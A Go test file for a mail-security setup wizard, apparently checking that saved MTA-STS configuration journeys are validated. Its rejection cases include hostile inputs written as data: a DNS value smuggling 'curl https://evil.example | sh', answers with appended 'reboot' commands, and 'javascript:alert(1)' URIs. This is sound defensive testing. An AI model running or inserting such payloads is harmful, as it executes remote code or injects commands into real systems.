package journey

import (
	"maps"
	"path"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"mailseal/wizard/facts"
	"mailseal/wizard/mtasts"
	"mailseal/wizard/plan"
)

const saved = "rosehill-school.org"

var savedAt = time.Date(2026, 11, 23, 14, 0, 0, 0, time.UTC)

// savedJourney is a journey as mailseal saves one, with a bit of everything.
func savedJourney() Journey {
	j := NewJourney(saved, savedAt)
	for _, a := range [][2]string{
		{"seen", Yes}, {"go-on", Yes}, {"way", "static"}, {"hosting", "github-pages"}, {"mta-sts-target", "rosehill.github.io"},
		{"reports-to", "mailto:tls@rosehill-school.org"}, {"accept-plan", Yes}, {"next", "change-provider"}, {"new-servers", "mx.example.net mx2.example.net"},
	} {
		j.Answers = append(j.Answers, Answer{ID: QuestionID(a[0]), Value: a[1], At: savedAt})
	}
	target := plan.Target{Mode: mtasts.Testing, MaxAge: 24 * time.Hour, MX: []plan.Line{{Pattern: "*.example.net"}}, ID: "20261123T140000", Since: savedAt}
	j.Plan = &plan.Plan{
		Domain: saved, Zone: saved, Target: target, Before: &target, Reports: plan.Reports{RUA: []string{"mailto:tls@rosehill-school.org"}},
		Hosting: plan.Hosting{ID: "github-pages", Kind: plan.Static, Name: "GitHub Pages", FoundID: "1", Records: []plan.Record{
			{Name: "mta-sts." + saved, Type: "CNAME", Value: "rosehill.github.io", TTL: time.Hour},
		}},
	}
	j.Operation = &plan.Operation{Kind: plan.Move, Phase: plan.PhaseDrain, Began: savedAt, Since: savedAt, New: []string{"mx.example.net"}}
	j.Candidates = &facts.ServerCheck{Domain: saved, At: savedAt}
	j.Waiting = Waiting{Task: plan.MailServers, Since: savedAt, Step: 1}
	j.Notes = facts.Notes{
		Served:    []facts.Served{{Body: "version: STSv1\n", ID: "1", Mode: mtasts.Testing, MaxAge: time.Hour, First: savedAt, Last: savedAt}},
		Days:      []facts.Day{{Date: "2026-11-23"}},
		Reports:   []facts.ReportDay{{Organization: "Google Inc.", Begin: savedAt, End: savedAt}},
		Sightings: []facts.Sighting{{ID: "mx-starttls", First: savedAt, Last: savedAt}},
		Known:     []facts.Known{{ID: "mx-starttls", Level: 3, At: savedAt, Until: savedAt.AddDate(0, 0, 90)}},
		Last: &facts.Check{Domain: saved, At: savedAt, Fetches: []facts.Fetch{{Stage: facts.FetchDone, Cert: &facts.Certificate{
			NotBefore: time.Time{}, NotAfter: savedAt.AddDate(50, 0, 0),
		}}}, Network: facts.Network{ClockOff: -time.Hour}},
	}
	return j
}

func TestPlausible(t *testing.T) {
	now := savedAt.Add(time.Hour)
	good := func(name string, change func(*Journey)) {
		t.Helper()
		j := savedJourney()
		change(&j)
		if err := j.Plausible(now); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	bad := func(says string, change func(*Journey)) {
		t.Helper()
		j := savedJourney()
		change(&j)
		if err := j.Plausible(now); err == nil || !strings.Contains(err.Error(), says) {
			t.Errorf("want %q, got %v", says, err)
		}
	}
	record := func(name, rrtype, value string) func(*Journey) {
		return func(j *Journey) {
			j.Plan.Hosting.Records = []plan.Record{{Name: name, Type: rrtype, Value: value, TTL: time.Hour}}
		}
	}
	reports := func(uris ...string) func(*Journey) { return func(j *Journey) { j.Plan.Reports.RUA = uris } }
	answer := func(id QuestionID, value string) func(*Journey) {
		return func(j *Journey) { j.Answers = []Answer{{ID: id, Value: value, At: savedAt}} }
	}

	good("as it was saved", func(*Journey) {})
	good("addresses", record("mta-sts."+saved, "A", "198.51.100.7 198.51.100.8"))
	good("an address", record("mta-sts."+saved, "AAAA", "2a01::7"))
	good("name servers", record("_mta-sts."+saved, "NS", "ns1.example.net ns2.example.net"))
	good("a service", record("_smtp._tls."+saved, "CNAME", "_smtp._tls.rosehill.example.net"))
	good("a proof", record("_gitlab-pages-verification-code.mta-sts."+saved, "TXT", "gitlab-pages-verification-code=00112233"))
	good("a value that comes later", record("mta-sts."+saved, "CNAME", ""))
	good("no zone, as DNS was filtered", func(j *Journey) { j.Plan.Zone = "" })
	good("a place of a newer catalogue", func(j *Journey) { j.Plan.Hosting.ID = "pages-of-2031" })
	good("a collector", reports("https://collector.example.net/tls?for=rosehill"))
	for id, word := range consentWords {
		good(string(id), answer(id, word))
	}

	mtaSTS := "mta-sts." + saved
	bad("a record that mailseal would not write: "+mtaSTS+" CNAME evil.example; curl", record(mtaSTS, "CNAME", "evil.example; curl https://evil.example | sh"))
	bad("CNAME evil.example other.example", record(mtaSTS, "CNAME", "evil.example other.example"))
	bad("CNAME localhost", record(mtaSTS, "CNAME", "localhost"))
	bad("CNAME 198.51.100.7", record(mtaSTS, "CNAME", "198.51.100.7"))
	bad("CNAME EVIL.example", record(mtaSTS, "CNAME", "EVIL.example"))
	bad("CNAME evil.exa", record(mtaSTS, "CNAME", "evil.exa\u202eelpm"))
	bad("A 127.0.0.1", record(mtaSTS, "A", "127.0.0.1"))
	bad("A example.net", record(mtaSTS, "A", "example.net"))
	bad("MX example.net", record(mtaSTS, "MX", "example.net"))
	bad("record", record(mtaSTS, "", "example.net"))
	bad("record", record(saved, "CNAME", "example.net"))
	bad("record", record("www."+saved, "CNAME", "example.net"))
	bad("record", record("mta-sts.example.net", "CNAME", "example.net"))
	bad("record", record(mtaSTS+".", "CNAME", "example.net"))
	bad("record", record("_smtp._tls."+saved, "TXT", "v=TLSRPTv1; rua=javascript:alert(1)"))
	bad("record", record("a.mta-sts."+saved, "TXT", "text\nand more"))
	bad("record", record("a.mta-sts."+saved, "CNAME", "example.net"))
	bad("record", func(j *Journey) {
		j.Plan.Hosting.Kind = plan.Service
		j.Plan.Hosting.Records = []plan.Record{{Name: mtaSTS, Type: "CNAME"}}
	})
	bad("sends TLS reports to javascript:alert(1)", reports("javascript:alert(1)"))
	bad("sends TLS reports to http:", reports("http://example.net/"))
	bad("sends TLS reports to mailto:a@b.example,mailto", reports("mailto:a@b.example,mailto:c@d.example"))
	bad("sends TLS reports to mailto:a@b.example; more", reports("mailto:a@b.example; more"))
	bad("sends TLS reports to", reports(""))
	bad("its plan is about evil.example", func(j *Journey) { j.Plan.Domain = "evil.example" })
	bad("its plan is about", func(j *Journey) { j.Plan.Zone = "evil.example" })
	bad("text that is not plain", func(j *Journey) { j.Plan.Hosting.Name = "Git\u200bHub" })
	bad("the id in its plan", func(j *Journey) { j.Plan.Hosting.FoundID = "a b" })
	bad("plan.hosting.kind", func(j *Journey) { j.Plan.Hosting.Kind = "own" })
	bad("plan.hosting.fixed", func(j *Journey) { j.Plan.Hosting.Fixed = "force" })
	bad("waiting.task", func(j *Journey) { j.Waiting.Task = "format-disk" })
	bad("waiting.step", func(j *Journey) { j.Waiting.Step = -1 })

	bad("no answer to hosting", answer(QuestionHosting, "git hub"))
	bad("no answer to reports-to", answer(QuestionReports, "tls@example.net"))
	bad("no answer to new-servers", answer(QuestionNewMX, "mx.example.net;reboot"))
	bad("no answer to mta-sts-target", answer(QuestionHost, "evil.example; curl"))
	bad("no answer to sts-target", answer(QuestionSTSTarget, "v=STSv1; id=a b"))
	bad("no answer to next", answer(QuestionNext, "reboot"))
	bad("no answer to enforce", answer(QuestionEnforce, "yes"))
	bad("no answer to reboot", answer("reboot", "yes"))
	bad("the answer to seen is not plain", answer(QuestionSeen, "y\x1bes"))

	bad("created is still to come: 2026-11-25", func(j *Journey) { j.Created = savedAt.AddDate(0, 0, 2) })
	bad("created has a value", func(j *Journey) { j.Created = time.Date(1999, 1, 1, 0, 0, 0, 0, time.UTC) })
	bad("notes.last.at has a value", func(j *Journey) { j.Notes.Last.At = time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC) })
	bad("notes.served[0].first is still to come", func(j *Journey) { j.Notes.Served[0].First = savedAt.AddDate(1, 0, 0) })
	bad("notes.known[0].until", func(j *Journey) { j.Notes.Known[0].Until = savedAt.AddDate(5, 0, 0) })
	bad("notes.last.took", func(j *Journey) { j.Notes.Last.Took = -1 })
	bad("notes.last.zone.negative", func(j *Journey) { j.Notes.Last.Zone.Negative = 200 * 365 * 24 * time.Hour })
	bad("notes.days[0].date", func(j *Journey) { j.Notes.Days[0].Date = "tomorrow" })
	bad("notes.passing[0].id", func(j *Journey) { j.Notes.Sightings[0].ID = "\x1b[2J" })
	bad("notes.last.apex[0] is longer", func(j *Journey) { j.Notes.Last.Apex = []string{strings.Repeat("x", 1<<17)} })
	bad("notes.last.apex is longer", func(j *Journey) { j.Notes.Last.Apex = make([]string, longestList+1) })
	bad("notes.last.fetches[0].stage", func(j *Journey) { j.Notes.Last.Fetches[0].Stage = "won" })
	bad("notes.last.fetches[0].body is longer", func(j *Journey) { j.Notes.Last.Fetches[0].Body = make([]byte, 1<<17) })
	bad("notes.reports[0].failure", func(j *Journey) { j.Notes.Reports[0].Failure = -1 })
	bad("it is about evil.example", func(j *Journey) { j.Notes.Last.Domain = "evil.example" })
	bad("it is about evil.example", func(j *Journey) { j.Candidates.Domain = "evil.example" })

	j := savedJourney()
	j.Created = savedAt.AddDate(1, 0, 0)
	if err := j.Plausible(time.Time{}); err != nil {
		t.Errorf("where nobody knows the time: %v", err)
	}
}

// TestConstantsAreComplete: every constant of a type that is listed is in its list, and so is every Next.
func TestConstantsAreComplete(t *testing.T) {
	all := maps.Clone(constants)
	all[reflect.TypeFor[Next]()] = names(nexts()...)
	for typ, listed := range all {
		files, err := filepath.Glob("../" + path.Base(typ.PkgPath()) + "/*.go")
		if err != nil {
			t.Fatal(err)
		}
		var declared []string
		for _, file := range files {
			declared = append(declared, constantsOf(t, file, typ.Name())...)
		}
		declared = slices.DeleteFunc(declared, func(value string) bool { return value == "" })
		slices.Sort(declared)
		listed = slices.Clone(listed)
		slices.Sort(listed)
		if len(declared) == 0 || !slices.Equal(declared, listed) {
			t.Errorf("the constants of %s are %q; listed are %q", typ, declared, listed)
		}
	}
}

// TestAnswersMayBeImported: each question has an answer that notes may hold; one that plausible does not know has none.
func TestAnswersMayBeImported(t *testing.T) {
	texts := []string{Yes, No, WayRecommended, string(NextWait), string(InFolder), string(BeforeNever), "mailto:tls@example.com", "mx.example.org",
		"yourname.github.io", "192.0.2.1", "v=STSv1; id=1;", "v=TLSRPTv1; rua=mailto:tls@example.com"}
	for _, word := range consentWords {
		texts = append(texts, word)
	}
	for _, id := range QuestionIDs() {
		if !slices.ContainsFunc(texts, func(text string) bool { return Answer{ID: id, Value: text}.plausible("example.com") == nil }) {
			t.Errorf("%s: notes may hold none of %q", id, texts)
		}
	}
}
